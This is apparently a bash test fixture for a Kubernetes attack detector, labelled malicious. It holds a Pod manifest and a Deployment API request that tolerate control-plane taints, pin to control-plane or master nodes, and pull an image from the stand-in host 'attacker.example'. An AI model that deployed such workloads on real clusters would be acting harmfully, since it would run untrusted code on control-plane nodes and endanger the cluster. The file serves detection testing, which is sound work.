# shellcheck shell=bash disable=SC2154
# what: a pod is put on the control plane's node.
# label: malicious
# expects: [control-plane-node-targeted]
# allows: [image-from-unknown-registry, cluster-resource-created, api-called-by-script]
develop() {
    given <<'Y' | intruder apply -f -
apiVersion: v1
kind: Pod
metadata: {name: etcd-check, namespace: shop}
spec:
  nodeSelector: {node-role.kubernetes.io/control-plane: ""}
  tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule}]
  containers: [{name: c, image: "attacker.example/tools:1"}]
Y
}
hold_out() { request POST /apis/apps/v1/namespaces/shop/deployments '{"metadata":{"name":"pin"},"spec":{"selector":{"matchLabels":{"app":"p"}},"template":{"metadata":{"labels":{"app":"p"}},"spec":{"tolerations":[{"key":"node-role.kubernetes.io/master","operator":"Exists"}],"nodeSelector":{"node-role.kubernetes.io/master":"true"},"containers":[{"name":"p","image":"attacker.example/tools:1"}]}}}}'; }
